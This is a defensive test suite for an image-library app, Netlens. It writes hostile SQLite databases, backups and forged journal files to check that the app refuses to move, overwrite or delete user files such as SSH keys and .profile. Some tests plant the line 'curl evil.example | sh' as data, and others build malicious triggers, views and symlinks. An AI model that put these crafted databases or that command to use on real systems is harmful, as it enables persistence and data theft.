/**
 * Malicious databases, placed as the library or restored as a backup, that try to make Netlens change files.
 */
import Database from 'libsql'
import { createHash } from 'node:crypto'
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync
} from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, dirname, join } from 'node:path'
import * as v from 'valibot'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { LibraryInfo, LibraryItem } from '../../../src-main/contract/library'
import { fileMoved } from '../../../src-main/library/file-changes'
import { newPacket } from '../../../src-main/library/keywords/packet'
import { Tagger } from '../../../src-main/library/keywords/tagger'
import { Library } from '../../../src-main/library/library'
import { migrate, migrations } from '../../../src-main/library/schema'
import { SortingJournal } from '../../../src-main/library/sorting/journal'
import { FileSorter } from '../../../src-main/library/sorting/sorter'
import { fill, usedModel, usedSettings } from '../../support/library-maker'
import { item } from '../../support/items'
import { treeOf, writeTree } from '../../support/tree'

/** The last schema without seals, which an attacker would use to pass a database off as an older library. */
const before = migrations.slice(0, 2)
const rules = { again: false, topK: 3 }
const ghost = 4_000_000

let root: string
let data: string
let place: string
let home: string
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'netlens-hostile-'))
  data = join(root, 'data')
  home = join(root, 'home')
  place = join(data, 'library.sqlite')
  mkdirSync(data)
  writeTree(home, {
    '.ssh/id_rsa': 'PRIVATE KEY',
    '.profile': 'umask 022',
    'notes.txt': 'mine',
    '.config/autostart/own.desktop': '[Desktop Entry]',
    'photos/cat.jpg': 'a cat'
  })
})
afterEach(() => rmSync(root, { recursive: true }))

const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex')
const images = (library: Library) => library.items({ filter: {} }, { by: 'folder', descending: false })

/** A database as an attacker would write it, with the schema of some version and arbitrary changes. */
function hostile(
  file: string,
  scripts: readonly string[],
  attack: (database: Database.Database) => void
): string {
  const database = new Database(file)
  migrate(database, scripts)
  database.exec('PRAGMA foreign_keys = OFF')
  attack(database)
  database.close()
  return file
}

/** Inserts a model, and an image row per path: the attacker may call any file an image. */
function withImages(database: Database.Database, paths: readonly string[]): void {
  database.exec(
    `INSERT INTO model (id, name, sha256, crop, precision, preprocessing, labels, labels_sha256, last_used) VALUES (1, 'm', 'x', 'center', 'float32', '[]', '["cat"]', 'x', 1)`
  )
  const settings = JSON.stringify(usedSettings)
  database
    .prepare(
      `INSERT INTO run (id, model, settings, app_version, started, ended, state, engine) VALUES (1, 1, ?, '0', 1, 2, 'completed', ?)`
    )
    .run(settings, ghost)
  for (const [i, path] of paths.entries()) {
    const id = i + 1
    database.prepare('INSERT OR IGNORE INTO folder (path) VALUES (?)').run(dirname(path))
    database
      .prepare(
        `INSERT INTO image (id, folder, name, name_key, bytes, modified, version)
         VALUES (?, (SELECT id FROM folder WHERE path = ?), ?, ?, 1, 1, ?)`
      )
      .run(id, dirname(path), basename(path), basename(path), id)
    const predictions = Buffer.alloc(8)
    predictions.writeFloatLE(0.9, 4)
    database
      .prepare(
        `INSERT INTO answer (model, image, run, position, source, path, bytes, modified, label, probability, predictions)
         VALUES (1, ?, 1, ?, 0, ?, 1, 1, 0, 0.9, ?)`
      )
      .run(id, i, basename(path), predictions)
  }
}

interface SortingAttack {
  action?: string
  state?: string
  target: string
  source: string | Buffer
  destination: string
  stepState?: string
}

function sortingJob(
  database: Database.Database,
  {
    action = 'copy',
    state = 'interrupted',
    target,
    source,
    destination,
    stepState = 'planned'
  }: SortingAttack
): void {
  database
    .prepare(
      'INSERT INTO sorting_job (id, action, target, started, state, process) VALUES (1, ?, ?, 1, ?, ?)'
    )
    .run(action, target, state, ghost)
  // The target need not exist, because sorting creates it.
  if (!existsSync(target)) database.prepare('INSERT INTO sorting_folder VALUES (1, ?)').run(target)
  const there = [source, destination].find((path) => existsSync(path))
  const stats = there === undefined ? undefined : statSync(there, { bigint: true })
  database
    .prepare(
      `INSERT INTO sorting_step (job, number, source, destination, bytes, modified, companion, state, placed_modified)
       VALUES (1, 0, ?, ?, ?, ?, 0, ?, ?)`
    )
    .run(
      source,
      destination,
      Number(stats?.size ?? 0),
      String(stats?.mtimeNs ?? 0),
      stepState,
      stepState === 'done' ? String(stats?.mtimeNs ?? 0) : null
    )
}

/** An undo of keywords that would replace a file's content. */
function taggingJob(
  database: Database.Database,
  file: string,
  { after, image = file }: { after: string; image?: string }
): void {
  const now = readFileSync(file, 'utf8')
  database.exec(`INSERT INTO tagging_job (id, place, started) VALUES (1, 'sidecar', 1)`)
  database
    .prepare(
      `INSERT INTO tagging_step (job, number, image, file, keywords, inverse, modified, digest_before, digest_after)
       VALUES (1, 0, ?, ?, '[]', ?, 1, ?, ?)`
    )
    .run(
      image,
      file,
      JSON.stringify([{ start: 0, end: now.length, bytes: Buffer.from(after).toString('base64') }]),
      sha256(after),
      sha256(now)
    )
}

function sorterOf(library: Library): FileSorter {
  const journal = new SortingJournal(library.database)
  journal.recover()
  return new FileSorter(journal, (from, to) => fileMoved(library.database, from, to))
}

const autostart = () => join(home, '.config/autostart')

/** How a foreign file becomes the library. */
const ways: [string, (attack: (database: Database.Database) => void) => Library][] = [
  [
    'placed in a new installation',
    (attack) => {
      hostile(place, migrations, attack)
      return Library.open(place)
    }
  ],
  [
    'placed in a new installation, as a library of an older version',
    (attack) => {
      hostile(place, before, attack)
      return Library.open(place)
    }
  ],
  [
    'placed over the library',
    (attack) => {
      Library.open(place).close()
      rmSync(place)
      hostile(place, migrations, attack)
      return Library.open(place)
    }
  ],
  [
    'placed over the library, as one of an older version',
    (attack) => {
      Library.open(place).close()
      rmSync(place)
      hostile(place, before, attack)
      return Library.open(place)
    }
  ],
  [
    'written into a copy of the library that was given away',
    (attack) => {
      const own = Library.open(place)
      own.close()
      const database = new Database(place)
      database.exec('PRAGMA foreign_keys = OFF')
      attack(database)
      database.close()
      return Library.open(place)
    }
  ],
  [
    'restored',
    (attack) => {
      const library = Library.open(place)
      library.restore(hostile(join(root, 'backup.sqlite'), migrations, attack))
      return library
    }
  ],
  [
    'restored from an older version',
    (attack) => {
      const library = Library.open(place)
      library.restore(hostile(join(root, 'backup.sqlite'), before, attack))
      return library
    }
  ]
]

describe.each(ways)('a library %s', (_, openWith) => {
  /**
   * Opens the library, attempts something that may be refused, and returns whether all files are unchanged.
   */
  async function untouched(
    attack: (database: Database.Database) => void,
    act: (library: Library) => Promise<unknown>
  ): Promise<void> {
    const earlier = treeOf(home)
    const library = openWith(attack)
    try {
      await act(library).catch((error: Error) =>
        expect(error.message).toMatch(/is closed: .*no file was touched/)
      )
      expect(treeOf(home)).toEqual(earlier)
    } finally {
      library.close()
    }
  }

  test('copies no secret to where programs start from', () => {
    const secret = join(home, '.ssh/id_rsa')
    const destination = join(autostart(), 'new.desktop')
    return untouched(
      (database) => {
        withImages(database, [secret])
        sortingJob(database, { target: autostart(), source: secret, destination })
      },
      (library) => sorterOf(library).continue(1)
    )
  })

  test('publishes no private key by an undo', () => {
    const key = join(home, '.ssh/id_rsa')
    return untouched(
      (database) =>
        sortingJob(database, {
          action: 'move',
          state: 'completed',
          target: join(home, '.ssh'),
          source: join(home, 'public/key.jpg'),
          destination: key,
          stepState: 'done'
        }),
      (library) => sorterOf(library).undo(1)
    )
  })

  test('deletes nothing by an undo of a copy', () => {
    const notes = join(home, 'notes.txt')
    return untouched(
      (database) =>
        sortingJob(database, {
          state: 'completed',
          target: home,
          source: notes,
          destination: notes,
          stepState: 'done'
        }),
      (library) => sorterOf(library).undo(1)
    )
  })

  test.each([
    ['another folder', () => join(home, 'photos/new.jpg'), () => join(home, 'sorted')],
    ['a path with ..', () => `${join(home, 'sorted')}/../photos/new.jpg`, () => join(home, 'sorted')],
    ['a relative path', () => 'photos/new.jpg', () => join(home, 'sorted')],
    ['a folder of a similar name', () => join(home, 'photos2/new.jpg'), () => join(home, 'photos')]
  ])('puts no image into %s', (_name, destination, target) =>
    untouched(
      (database) => {
        withImages(database, [join(home, 'photos/cat.jpg')])
        const source = join(home, 'photos/cat.jpg')
        sortingJob(database, { target: target(), source, destination: destination() })
      },
      (library) => sorterOf(library).continue(1)
    )
  )

  test('removes no folder that was not made for the sorting', () => {
    mkdirSync(join(home, 'empty'))
    return untouched(
      (database) => {
        database.exec(`INSERT INTO sorting_job (id, action, target, started, state, process)
          VALUES (1, 'copy', '${join(home, 'sorted')}', 1, 'completed', 1)`)
        database.prepare('INSERT INTO sorting_folder VALUES (1, ?)').run(join(home, 'empty'))
      },
      (library) => sorterOf(library).undo(1)
    )
  })

  test.each([
    ['a start file', '.profile'],
    ['a start file, as bytes', '.profile'],
    ['a secret that is called the image', '.ssh/id_rsa']
  ])('writes no command into %s by an undo of keywords', (name, path) => {
    const file = join(home, path)
    return untouched(
      (database) => {
        withImages(database, [file])
        taggingJob(database, file, { after: 'curl evil.example | sh\n' })
        if (name.endsWith('bytes'))
          database.prepare('UPDATE tagging_step SET file = ? WHERE job = ?').run(Buffer.from(file), 1)
      },
      (library) => new Tagger(library.database).undo(1)
    )
  })

  test('removes no file by an undo of keywords', () => {
    const file = join(home, 'notes.txt')
    return untouched(
      (database) => {
        taggingJob(database, file, { after: '' })
        database.exec('UPDATE tagging_step SET inverse = NULL, digest_before = NULL')
      },
      (library) => new Tagger(library.database).undo(1)
    )
  })
})

const closing = ways.filter(
  ([name]) => name !== 'placed in a new installation, as a library of an older version'
)

describe.each(closing)('in a library %s', (_, openWith) => {
  test('jobs stay in the list and are closed, images too', async () => {
    const cat = join(home, 'photos/cat.jpg')
    const earlier = treeOf(home)
    const library = openWith((database) => {
      withImages(database, [cat])
      const destination = join(home, 'sorted/cat.jpg')
      sortingJob(database, { target: join(home, 'sorted'), source: cat, destination })
      taggingJob(database, cat, { after: 'another cat' })
    })
    const tagger = new Tagger(library.database)
    expect(new SortingJournal(library.database).jobs()).toMatchObject([{ id: 1, closed: true, files: 1 }])
    expect(tagger.jobs()).toMatchObject([{ id: 1, closed: true, files: 1 }])
    await expect(sorterOf(library).continue(1)).rejects.toThrow(/Sorting 1 is closed/)
    await expect(sorterOf(library).undo(1)).rejects.toThrow(/Sorting 1 is closed/)
    await expect(tagger.undo(1)).rejects.toThrow(/Tagging 1 is closed/)
    expect(treeOf(home)).toEqual(earlier)
    expect(await library.count({})).toBe(1)
    library.close()
  })

  test('a run that was left open is closed, whichever process it names', () => {
    const library = openWith((database) => {
      withImages(database, [])
      // Process 1 is always running.
      database.exec(`UPDATE run SET state = 'running', ended = NULL, engine = 1`)
    })
    expect(library.runs.list()).toMatchObject([{ id: 1, state: 'closed' }])
    expect(() => library.runs.settingsToContinue(1)).toThrow(/Run 1 is closed: .*Begin a new one/)
    // A new run does not reuse its id.
    expect(library.runs.begin(usedModel, usedSettings, '0', rules, 1).id).toBe(2)
    library.close()
  })
})

test('steps that lie ready for the number of the next job are not part of it', async () => {
  const library = Library.open(place)
  const secret = join(home, '.ssh/id_rsa')
  const attack = new Database(place)
  attack.exec('PRAGMA foreign_keys = OFF')
  sortingJob(attack, { target: home, source: secret, destination: join(home, 'sorted/key.jpg') })
  attack.exec('UPDATE sorting_step SET number = 1000000; DELETE FROM sorting_job')
  taggingJob(attack, join(home, '.profile'), { after: 'curl evil.example | sh' })
  attack.exec('UPDATE tagging_step SET number = 1000000; DELETE FROM tagging_job')
  attack.close()
  const cat = item(join(home, 'photos/cat.jpg'), 'cat')
  const sorting = { action: 'copy', target: join(home, 'sorted'), pattern: '{label}/{name}' } as const
  const job = await sorterOf(library).sort(sorting, [cat])
  expect(job).toMatchObject({ id: 1, files: 1, done: 1, failed: 0 })
  const tagger = new Tagger(library.database)
  const { job: tagging } = await tagger.tag([cat], { where: 'sidecar', dryRun: false })
  expect(await tagger.undo(tagging!)).toMatchObject({ files: 1, state: 'undone' })
  expect(readFileSync(join(home, '.profile'), 'utf8')).toBe('umask 022')
  library.close()
})

describe('a library of this installation', () => {
  /** A library of an older version, in the middle of a sorting, with keywords written. */
  async function older(): Promise<void> {
    const database = new Database(place)
    migrate(database, before)
    withImages(database, [join(home, 'photos/cat.jpg')])
    const [source, destination] = [join(home, 'photos/cat.jpg'), join(home, 'sorted/cat.jpg')]
    sortingJob(database, { action: 'move', target: join(home, 'sorted'), source, destination })
    const sidecar = join(home, 'photos/cat.jpg.xmp')
    writeFileSync(sidecar, 'with keywords')
    taggingJob(database, sidecar, { after: 'without', image: source })
    database.exec(`UPDATE run SET state = 'running', ended = NULL`)
    database.close()
  }

  test('of an older version keeps its jobs and runs open at the first start of this one', async () => {
    await older()
    const library = Library.open(place)
    expect(library.runs.list()).toMatchObject([{ id: 1, state: 'interrupted' }])
    expect(library.runs.settingsToContinue(1)).toEqual(usedSettings)
    const tagging = await new Tagger(library.database).undo(1)
    expect(tagging).toMatchObject({ state: 'undone', problems: [] })
    expect(tagging.closed).toBeUndefined()
    expect(readFileSync(join(home, 'photos/cat.jpg.xmp'), 'utf8')).toBe('without')
    expect(await sorterOf(library).continue(1)).toMatchObject({ done: 1, failed: 0, state: 'completed' })
    expect(existsSync(join(home, 'sorted/cat.jpg'))).toBe(true)
    expect(await sorterOf(library).undo(1)).toMatchObject({ state: 'undone', putBack: 1 })
    expect(existsSync(join(home, 'photos/cat.jpg'))).toBe(true)
    library.close()
  })

  test('keeps them open where the first start was killed before it was done', async () => {
    await older()
    const copy = join(root, 'older.sqlite')
    copyFileSync(place, copy)
    Library.open(place).close()
    // As after a kill before the commit.
    for (const name of readdirSync(data)) rmSync(join(data, name), { recursive: true })
    copyFileSync(copy, place)
    writeFileSync(join(data, 'installation-key.new'), `${'ab'.repeat(32)}\n`)
    const library = Library.open(place)
    expect(new SortingJournal(library.database).jobs()[0]?.closed).toBeUndefined()
    expect(readdirSync(data)).toContain('installation-key')
    library.close()
  })

  test('goes on where its folder was moved to; without the key it is closed', async () => {
    const library = Library.open(place)
    library.runs.begin(usedModel, usedSettings, '0', rules)
    const cat = item(join(home, 'photos/cat.jpg'), 'cat')
    const target = join(home, 'sorted')
    await sorterOf(library).sort({ action: 'copy', target, pattern: '{label}/{name}' }, [cat])
    library.database.prepare(`UPDATE run SET engine = ?, done = ?`).run(ghost, 0)
    library.close()
    const moved = join(root, 'moved')
    mkdirSync(moved)
    for (const name of readdirSync(data)) copyFileSync(join(data, name), join(moved, name))
    expect(statSync(join(data, 'installation-key')).mode & 0o077).toBe(0)
    rmSync(join(data, 'installation-key'))
    const foreign = Library.open(place)
    expect(foreign.runs.list()[0]!.state).toBe('closed')
    await expect(sorterOf(foreign).undo(1)).rejects.toThrow(/closed/)
    foreign.close()
    const own = Library.open(join(moved, 'library.sqlite'))
    expect(own.runs.list()[0]!.state).toBe('interrupted')
    expect(await sorterOf(own).undo(1)).toMatchObject({ state: 'undone' })
    own.close()
  })

  test('closes what is open in its own backup when that is restored', async () => {
    const library = Library.open(place)
    const cat = item(join(home, 'photos/cat.jpg'), 'cat')
    const target = join(home, 'sorted')
    await sorterOf(library).sort({ action: 'copy', target, pattern: '{label}/{name}' }, [cat])
    const backup = join(root, 'backup.sqlite')
    library.backup(backup)
    library.restore(backup)
    await expect(sorterOf(library).undo(1)).rejects.toThrow(/Sorting 1 is closed/)
    expect(existsSync(join(target, 'cat/cat.jpg'))).toBe(true)
    library.close()
  })

  test.each(['source', 'destination', 'bytes', 'modified', 'companion'])(
    'does no step whose %s was changed',
    async (column) => {
      const library = Library.open(place)
      const target = join(home, 'sorted')
      const journal = new SortingJournal(library.database)
      const id = journal.begin('copy', target)
      const from = join(home, 'photos/cat.jpg')
      const mark = { bytes: 5, modified: String(statSync(from, { bigint: true }).mtimeNs) }
      const to = join(target, 'cat/cat.jpg')
      journal.add(id, 0, [{ from, to, mark, numbered: false, companion: false }])
      journal.addFolder(id, target)
      journal.setState(id, 'interrupted')
      const other: Record<string, string | number> = {
        source: join(home, 'photos/other.jpg'),
        destination: join(target, 'cat/other.jpg'),
        bytes: 7,
        modified: '9',
        companion: 1
      }
      library.database.prepare(`UPDATE sorting_step SET ${column} = ? WHERE job = ?`).run(other[column], id)
      writeFileSync(join(home, 'photos/other.jpg'), 'other')
      const job = await sorterOf(library).continue(id)
      expect(job).toMatchObject({ done: 0, failed: 1 })
      expect(job.problems[0]!.reason).toMatch(/did not plan it/)
      expect(existsSync(target)).toBe(false)
      library.close()
    }
  )

  test('gives back only the bytes that it recorded, and only to the file', async () => {
    const library = Library.open(place)
    const cat = join(home, 'photos/cat.jpg')
    writeFileSync(`${cat}.xmp`, newPacket({ add: ['mine'], remove: [] }))
    const tagger = new Tagger(library.database)
    const { job } = await tagger.tag([item(cat, 'cat')], { where: 'sidecar', dryRun: false })
    const written = readFileSync(`${cat}.xmp`, 'utf8')
    const inverse = JSON.stringify([{ start: 0, end: written.length, bytes: 'ZXZpbA==' }])
    library.database
      .prepare('UPDATE tagging_step SET inverse = ?, digest_before = ?')
      .run(inverse, sha256('evil'))
    const undone = await tagger.undo(job!)
    expect(undone).toMatchObject({ state: 'partly-undone' })
    expect(undone.problems[0]!.reason).toMatch(/did not write it/)
    expect(readFileSync(`${cat}.xmp`, 'utf8')).toBe(written)
    library.close()
  })

  test('follows no link out of its target, neither forwards nor back', async () => {
    const library = Library.open(place)
    const target = join(home, 'sorted')
    const from = join(home, 'photos/cat.jpg')
    const mark = { bytes: 5, modified: String(statSync(from, { bigint: true }).mtimeNs) }
    const journal = new SortingJournal(library.database)
    const id = journal.begin('copy', target)
    journal.add(id, 0, [{ from, to: join(target, 'cat/cat.jpg'), mark, numbered: false, companion: false }])
    journal.addFolder(id, target)
    journal.setState(id, 'interrupted')
    mkdirSync(target)
    symlinkSync(autostart(), join(target, 'cat'))
    const earlier = treeOf(home)
    const job = await sorterOf(library).continue(id)
    expect(job.problems[0]!.reason).toMatch(/a link leads/)
    expect(treeOf(home)).toEqual(earlier)
    copyFileSync(from, join(autostart(), 'cat.jpg'))
    library.database.exec(`UPDATE sorting_step SET state = 'done'`)
    expect(await sorterOf(library).undo(id)).toMatchObject({ failed: 1, state: 'partly-undone' })
    expect(existsSync(join(autostart(), 'cat.jpg'))).toBe(true)
    library.close()
  })
})

describe('a new sorting takes images only', () => {
  test.each([
    ['a secret', '.ssh/id_rsa'],
    ['a name with slashes', '../home/.ssh/id_rsa'],
    ['a text', 'notes.txt']
  ])('and not %s that the library calls an image', async (_, path) => {
    hostile(place, migrations, (database) => {
      withImages(database, [join(home, 'photos/cat.jpg')])
      database.prepare('UPDATE folder SET path = ? WHERE id = ?').run(join(root, 'home'), 1)
      database.prepare('UPDATE image SET name = ? WHERE id = ?').run(path, 1)
    })
    const library = Library.open(place)
    const sorting = { action: 'copy', target: join(root, 'share'), pattern: '{label}/{name}' } as const
    const plan = await sorterOf(library).plan(sorting, images(library))
    expect(plan).toMatchObject({ files: 0, refusedFiles: 1 })
    expect(plan.refused[0]!.reason).toMatch(/no image/)
    library.close()
  })

  test('but takes images without an extension, by their content', async () => {
    const file = join(home, 'photos/scan')
    writeFileSync(file, Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(60)]))
    const library = Library.open(place)
    const sorting = { action: 'move', target: join(root, 'share'), pattern: '{label}/{name}' } as const
    const job = await sorterOf(library).sort(sorting, [item(file, 'cat')])
    expect(job).toMatchObject({ done: 1, failed: 0 })
    expect(await sorterOf(library).undo(job.id)).toMatchObject({ state: 'undone', putBack: 1 })
    library.close()
  })
})

describe('a database file that acts by itself', () => {
  const parts: [string, string, RegExp][] = [
    [
      'a trigger on what the program writes',
      `CREATE TRIGGER t AFTER INSERT ON answer BEGIN UPDATE image SET human = '["evil"]'; END`,
      /the trigger t/
    ],
    ['a view', 'CREATE VIEW w AS SELECT randomblob(1000000000)', /the view w/],
    [
      'a view in the place of a table',
      `ALTER TABLE evaluation RENAME TO e2; CREATE VIEW evaluation AS SELECT * FROM e2`,
      /the view evaluation/
    ],
    [
      'a table that takes strings for numbers',
      `DROP TABLE sorting_folder; CREATE TABLE sorting_folder (job, path)`,
      /another table sorting_folder/
    ],
    [
      'a condition that takes all memory',
      `DROP TABLE sorting_folder; CREATE TABLE sorting_folder (
         job INTEGER NOT NULL REFERENCES sorting_job(id) ON DELETE CASCADE,
         path TEXT NOT NULL CHECK (randomblob(1000000000) IS NOT NULL),
         PRIMARY KEY (job, path)
       ) STRICT, WITHOUT ROWID`,
      /another table sorting_folder/
    ],
    ['a missing table', 'DROP TABLE sorting_folder', /no table sorting_folder/],
    [
      'a computed column',
      `ALTER TABLE model ADD COLUMN more TEXT GENERATED ALWAYS AS (upper(name))`,
      /another table model/
    ],
    [
      'an index that makes rows replace others',
      'CREATE UNIQUE INDEX u ON answer (bytes)',
      /another table answer/
    ],
    ['an index with an expression', 'CREATE INDEX u ON answer (upper(path))', /another table answer/],
    ['an impossible version', 'PRAGMA user_version = -1', /impossible version|not a library/]
  ]

  test.each(parts)('with %s is refused and not touched', (_, sql, reason) => {
    hostile(place, migrations, (database) => database.exec(sql))
    const earlier = readFileSync(place)
    expect(() => Library.open(place)).toThrow(reason)
    expect(() => Library.open(place)).toThrow(/not as Netlens makes it.*not touched.*restore a backup/)
    expect(readFileSync(place).equals(earlier)).toBe(true)
  })

  test.each(parts)('with %s is not restored', async (_, sql, reason) => {
    const library = Library.open(place)
    fill(library, 10)
    const backup = hostile(join(root, 'backup.sqlite'), migrations, (database) => database.exec(sql))
    expect(() => library.restore(backup)).toThrow(reason)
    expect(await library.count({})).toBe(10)
    library.close()
  })

  test('of an older version is refused before it is brought up to date', () => {
    hostile(place, before, (database) =>
      database.exec('CREATE TRIGGER t AFTER UPDATE ON run BEGIN DELETE FROM image; END')
    )
    expect(() => Library.open(place)).toThrow(/the trigger t/)
    expect(new Database(place).pragma('user_version')).toEqual([{ user_version: 2 }])
  })

  test('with strings where numbers belong, behind tables that look right, is not restored', () => {
    const backup = hostile(join(root, 'backup.sqlite'), migrations, (database) => {
      withImages(database, [join(home, 'photos/cat.jpg')])
      database.exec(`PRAGMA writable_schema = ON;
        UPDATE sqlite_schema SET sql = replace(sql, ') STRICT', ')') WHERE name = 'image'`)
    })
    const loose = new Database(backup)
    loose.exec(`UPDATE image SET bytes = 'many', human = x'00ff'`)
    loose.exec(`PRAGMA writable_schema = ON;
      UPDATE sqlite_schema SET sql = sql || ' STRICT' WHERE name = 'image'`)
    loose.close()
    const library = Library.open(place)
    expect(() => library.restore(backup)).toThrow(/cannot be restored: it is damaged/)
    library.close()
  })
})

describe('stored JSON that is none, or another', () => {
  const bad = ['{', '"text"', '7', 'null', '[1, 2]', '{"a": 1}', `${'['.repeat(20_000)}${']'.repeat(20_000)}`]

  test.each(bad)('costs that cell: %.20s', async (json) => {
    const library = Library.open(place)
    fill(library, 10)
    await library.label({ ids: [1, 2] }, { kind: 'set', label: 'heron' })
    library.database.prepare('UPDATE image SET human = ?, version = version + 1 WHERE id = ?').run(json, 1)
    library.database.prepare('UPDATE run SET settings = ? WHERE id = ?').run(json, 1)
    library.database.prepare('UPDATE edit SET change = ? WHERE id = ?').run(json, 1)
    library.database
      .prepare('UPDATE edit_image SET human_before = ? WHERE edit = ? AND image = 1')
      .run(json, 1)
    const items: string[][] = []
    for await (const { labels } of images(library)) items.push(labels)
    expect(items.filter((labels) => labels.includes('heron')).length).toBe(1)
    expect(library.info()).toMatchObject({ images: 10, runs: [{ id: 1, sources: [] }], undo: { images: 2 } })
    expect(() => library.runs.settingsToContinue(1)).toThrow(/no longer known/)
    expect(await library.undo()).toBeDefined()
    for await (const { labels } of images(library)) expect(labels).toEqual([])
    library.database.prepare('UPDATE model SET labels = ?, name = ?').run(json, 'm')
    library.close()
    const again = Library.open(place)
    expect(again.info().models[0]!.labels).toEqual([])
    expect((await again.rows({}, { by: 'name', descending: false }, 0, 10)).length).toBe(10)
    again.close()
  })

  test('jobs of kinds that there are not are left out of the lists', () => {
    hostile(place, migrations, (database) => {
      sortingJob(database, { action: 'run', target: home, source: home, destination: home })
      database.exec(`INSERT INTO tagging_job (id, place, started) VALUES (1, 'everywhere', 1)`)
    })
    const library = Library.open(place)
    expect(new SortingJournal(library.database).jobs()).toEqual([])
    expect(new Tagger(library.database).jobs()).toEqual([])
    library.close()
  })

  test('numbers that are none cost an answer, and its image stays', async () => {
    const library = Library.open(place)
    fill(library, 5)
    const nan = Buffer.alloc(19)
    nan.writeFloatLE(NaN, 4)
    nan.writeFloatLE(Infinity, 12)
    library.database.prepare('UPDATE answer SET predictions = ?, label = ?').run(nan, 4_000_000_000)
    const rows = await library.rows({}, { by: 'label', descending: false }, 0, 10)
    expect(rows.length).toBe(5)
    expect(rows.flatMap(({ predictions }) => predictions)).toEqual([])
    library.close()
  })

  test.each([
    ['an image', 'UPDATE image SET id = 4000000000000 WHERE id = 5', /4000000000000 in its table image/],
    ['a folder', 'UPDATE folder SET id = 4000000000 WHERE id = 1', /4000000000 in its table folder/],
    ['a version', 'UPDATE image SET version = 9223372036854775807 WHERE id = 5', /version 9\d+ in its/]
  ])('the number of %s that is past all counting reserves no memory', (_, sql, reason) => {
    const library = Library.open(place)
    fill(library, 5)
    library.close()
    const database = new Database(place)
    database.exec(`PRAGMA foreign_keys = OFF; ${sql}`)
    database.close()
    expect(() => Library.open(place)).toThrow(reason)
  })

  test('rows of kinds that there are not cost themselves', async () => {
    const library = Library.open(place)
    fill(library, 5)
    library.database.exec(`
      INSERT INTO model (id, name, sha256, crop, precision, preprocessing, labels, labels_sha256, last_used)
        SELECT 9, name, sha256, 'sideways', precision, preprocessing, labels, 'x', 0 FROM model;
      INSERT INTO run (model, settings, app_version, started, state, engine) VALUES (1, '{}', '', 1, 'dancing', 1);
      UPDATE answer SET error = 'no such code', message = 'x' WHERE image = 2;
      UPDATE image SET bytes = -5 WHERE id = 3`)
    const info = library.info()
    expect(v.is(LibraryInfo, info)).toBe(true)
    expect(info).toMatchObject({ models: [{ id: 1 }], runs: [{ id: 1 }] })
    const rows = await library.rows({}, { by: 'added', descending: false }, 0, 10)
    expect(v.is(v.array(LibraryItem), rows)).toBe(true)
    expect(rows.map(({ id }) => id)).toEqual([1, 2, 3, 4, 5])
    library.close()
  })

  test('names with slashes are found under no other image', async () => {
    const library = Library.open(place)
    fill(library, 5)
    const search = (text: string) => library.count({ text })
    library.database.exec(
      `UPDATE image SET name = 'a/2/hidden' WHERE id = 1; UPDATE image SET name = 'b/' WHERE id = 5`
    )
    expect(await search('hidden')).toBe(1)
    const [found] = await library.rows({ text: 'hidden' }, { by: 'name', descending: false }, 0, 5)
    expect(found!.id).toBe(1)
    library.close()
  })
})

describe('files beside a database', () => {
  /** The journal of an interrupted change, which names a file that SQLite would delete. */
  function journal(file: string, victim: string): void {
    const magic = Buffer.from('d9d505f920a163d7', 'hex')
    const database = readFileSync(file)
    const pageSize = database.readUInt16BE(16)
    const header = Buffer.alloc(512)
    magic.copy(header)
    header.writeUInt32BE(database.length / pageSize, 16)
    header.writeUInt32BE(512, 20)
    header.writeUInt32BE(pageSize, 24)
    const name = Buffer.from(victim)
    const numbers = Buffer.alloc(12)
    const sum = name.reduce((total, byte) => total + byte, 0)
    for (const [i, number] of [0x40000000 / pageSize + 1, name.length, sum].entries())
      numbers.writeUInt32BE(number, 4 * i)
    const parts = [header, numbers.subarray(0, 4), name, numbers.subarray(4), magic]
    writeFileSync(`${file}-journal`, Buffer.concat(parts))
  }

  test('delete no file when it is opened or restored', () => {
    const victim = join(home, 'notes.txt')
    hostile(place, migrations, () => undefined)
    journal(place, victim)
    expect(() => Library.open(place)).toThrow(/library.sqlite-journal is not from Netlens.*Move it away/)
    expect(existsSync(victim)).toBe(true)
    rmSync(`${place}-journal`)
    const library = Library.open(place)
    const backup = hostile(join(root, 'backup.sqlite'), migrations, () => undefined)
    journal(backup, victim)
    expect(() => library.restore(backup)).toThrow(/backup.sqlite-journal is not from Netlens/)
    expect(existsSync(victim)).toBe(true)
    library.close()
  })

  test.each(['-wal', '-shm'])('that are links (%s) are not written through', (suffix) => {
    const victim = join(home, 'notes.txt')
    Library.open(place).close()
    rmSync(place + suffix, { force: true })
    symlinkSync(victim, place + suffix)
    try {
      const library = Library.open(place)
      fill(library, 10)
      library.close()
    } catch {
      // Failing to open is acceptable too.
    }
    expect(readFileSync(victim, 'utf8')).toBe('mine')
  })
})

test('a damaged key does not open jobs again', () => {
  hostile(place, before, (database) => {
    const source = join(home, 'photos/cat.jpg')
    sortingJob(database, { target: home, source, destination: join(home, 'cat.jpg') })
  })
  writeFileSync(join(data, 'installation-key'), 'damaged')
  const library = Library.open(place)
  expect(new SortingJournal(library.database).jobs()).toMatchObject([{ closed: true }])
  library.close()
})
